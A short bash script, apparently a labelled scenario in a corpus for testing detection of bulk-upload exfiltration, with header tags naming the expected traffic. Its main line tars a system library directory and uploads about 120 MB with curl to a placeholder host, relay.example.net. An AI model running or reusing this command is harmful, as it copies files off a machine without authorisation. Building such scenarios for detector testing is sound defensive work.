#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=bulk-upload half=tune tool=tar,curl seconds=30 parts=dns,nas,outside-web before=yes
# An archive of programs, 120 MB, is put outside by curl, which sent little in each of its last 24 hours (rows of an earlier session).
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/learnt.sh" hours; fi
sleep 2; tar -C /usr/lib/x86_64-linux-gnu -c . 2>/dev/null | head -c 120000000 | curl -s -o /dev/null --limit-rate 8m -T - http://relay.example.net/drop/archive.tar; sleep 6; true
